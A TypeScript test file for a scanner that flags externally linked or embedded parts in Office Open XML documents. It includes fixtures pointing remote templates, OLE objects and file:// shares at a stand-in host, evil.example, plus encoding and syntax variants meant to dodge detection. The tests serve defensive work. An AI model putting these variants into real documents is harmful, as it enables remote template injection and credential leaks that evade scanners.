import { describe, expect, test } from 'vitest'
import { findRelationFault, isRelationsPart } from './open-xml-links.rules.ts'

const base = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const relation = (type: string, target: string, mode = 'External') =>
  `<Relationships xmlns="…"><Relationship Id="rId1" Type="${base}/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
const find = (xml: string | Buffer, name = 'word/_rels/document.xml.rels') =>
  findRelationFault(name, Buffer.from(xml))
const template = relation('attachedTemplate', 'https://evil.example/t.dotm')

describe('a part from elsewhere', () => {
  test.each([
    'attachedTemplate',
    'oleObject',
    'image',
    'frame',
    'subDocument',
    'externalLinkPath',
    'video',
    'aFChunk',
    'font',
  ])('of kind %s is found', (type) => {
    expect(find(relation(type, 'https://evil.example/x'))).toBe('linked')
    expect(find(relation(type, 'file://evil.example/share/x'))).toBe('linked')
  })

  test.each([
    ['in single quotation marks', template.replaceAll('"', "'")],
    ['with a namespace of its own', template.replaceAll('<Relationship ', '<r:Relationship ')],
    ['over several lines', template.replaceAll(' ', '\n\t')],
    ['with spaces around its signs', template.replaceAll('=', ' = ')],
    ['in letters written as numbers', template.replace('External', '&#69;xtern&#x61;l')],
    ['with > in a value', template.replace('t.dotm', 't>.dotm')],
    ['with a number that is no letter', template.replace('evil', '&#x110000;')],
    ['in small letters', template.replace('External', 'external')],
    [
      'of the strict schema',
      template.replace(base, 'http://purl.oclc.org/ooxml/officeDocument/relationships'),
    ],
    ['without a kind', template.replace(/Type="[^"]*"/, '')],
    ['behind many others', `${relation('hyperlink', 'https://a.example').repeat(500)}${template}`],
  ])('%s is found', (_what, xml) => {
    expect(find(xml)).toBe('linked')
  })

  test.each([
    ['with its mark', Buffer.from(`\uFEFF${template}`, 'utf16le')],
    ['without it', Buffer.from(template, 'utf16le')],
    ['the other way round', Buffer.from(`\uFEFF${template}`, 'utf16le').swap16()],
    ['the other way round without it', Buffer.from(template, 'utf16le').swap16()],
    [
      'the other way round, cut within a letter',
      Buffer.concat([Buffer.from(template, 'utf16le').swap16(), Buffer.alloc(1)]),
    ],
  ])('in UTF-16 %s is found', (_what, xml) => {
    expect(find(xml)).toBe('linked')
  })

  test('is found behind zeros, which are of no letter in UTF-16', () => {
    expect(find(Buffer.concat([Buffer.alloc(2), Buffer.from(template)]))).toBe('linked')
  })

  test('is allowed if the reader must click it, or if it is inside the document', () => {
    expect(find(relation('hyperlink', 'https://a.example/'))).toBeUndefined()
    expect(find(relation('image', 'media/image1.png', 'Internal'))).toBeUndefined()
    expect(find('<Relationships/>')).toBeUndefined()
    expect(find('')).toBeUndefined()
  })
})

describe('an object of another program', () => {
  test('is found', () => {
    expect(find(relation('oleObject', 'embeddings/oleObject1.bin', 'Internal'))).toBe('embedded')
    expect(find(relation('package', 'embeddings/a.docx', 'Internal'))).toBe('embedded')
  })

  test('is allowed if it holds the figures of a chart', () => {
    const figures = relation('package', '../embeddings/a.xlsx', 'Internal')
    expect(find(figures, 'word/charts/_rels/chart1.xml.rels')).toBeUndefined()
  })
})

test.each([
  ['word/_rels/document.xml.rels', true],
  ['_rels/.rels', true],
  ['WORD/_RELS/SETTINGS.XML.RELS', true],
  ['word/document.xml', false],
  ['word/_rels/image.png', false],
])('%s holds relations: %s', (name, holds) => {
  expect(isRelationsPart(name)).toBe(holds)
})

test.each([
  '<Relationship ',
  '<Relationship "',
  "<Relationship '",
  '<Relationship a="',
  '<Relationship a=&#',
])('a megabyte of %j takes no longer than a document does', (pattern) => {
  // An ambiguous pattern would backtrack for practically unlimited time here.
  expect(find(pattern.repeat(1_048_576 / pattern.length))).toBeUndefined()
})
